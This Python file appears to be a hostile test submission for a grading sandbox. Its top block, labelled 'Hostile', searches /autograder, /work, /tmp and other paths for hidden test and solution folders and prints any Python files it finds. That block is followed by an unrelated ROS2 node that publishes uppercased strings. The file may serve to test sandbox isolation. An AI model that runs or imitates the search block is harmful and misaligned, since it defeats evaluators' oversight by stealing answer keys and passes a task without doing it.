"""Hostile: looks for hidden tests and solutions on disk and prints them."""
import os
import sys

found = 0
bases = ["/work", "/autograder", "/home", "/srv", "/opt", "/tmp", os.path.dirname(sys.prefix),
         os.path.dirname(os.path.dirname(sys.prefix))]
for base in bases:
    for root, dirs, files in os.walk(base):
        if root.count(os.sep) - base.count(os.sep) > 6:
            dirs[:] = []
            continue
        if root.endswith(os.path.join("tests", "hidden")) or root.endswith(os.sep + "solution"):
            for name in files:
                if name.endswith(".py"):
                    try:
                        with open(os.path.join(root, name)) as fh:
                            print("SECRET", os.path.join(root, name), fh.read(), flush=True)
                            found += 1
                    except OSError as exc:
                        print("DENIED", root, exc, flush=True)
print("SECRETS FOUND:", found, flush=True)

import rclpy
from rclpy.executors import ExternalShutdownException
from rclpy.node import Node
from std_msgs.msg import String


class Shouter(Node):
    def __init__(self):
        super().__init__('shouter')
        self.pub = self.create_publisher(String, 'shout', 10)
        self.create_subscription(String, 'words', self.on_words, 10)

    def on_words(self, msg):
        self.pub.publish(String(data=msg.data.upper()))


def main(args=None):
    rclpy.init(args=args)
    node = Shouter()
    try:
        rclpy.spin(node)
    except (KeyboardInterrupt, ExternalShutdownException):
        pass
    finally:
        node.destroy_node()
        rclpy.try_shutdown()


if __name__ == '__main__':
    main()
